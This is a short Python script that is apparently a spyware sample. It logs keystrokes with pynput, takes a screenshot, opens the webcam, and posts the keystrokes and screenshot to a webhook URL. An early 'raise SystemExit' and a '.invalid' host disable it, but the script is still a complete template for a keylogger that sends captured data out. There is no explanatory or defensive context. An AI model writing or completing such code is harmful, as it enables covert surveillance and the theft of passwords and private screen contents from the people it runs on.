import requests
from PIL import ImageGrab
from pynput import keyboard
import cv2

raise SystemExit
HOOK = "https://discord.com.invalid/api/webhooks/0/x"
buf = []
keyboard.Listener(on_press=lambda k: buf.append(str(k))).start()
ImageGrab.grab().save("s.png")
cam = cv2.VideoCapture(0)
requests.post(HOOK, json={"content": "".join(buf)}, files={"f": open("s.png", "rb")})
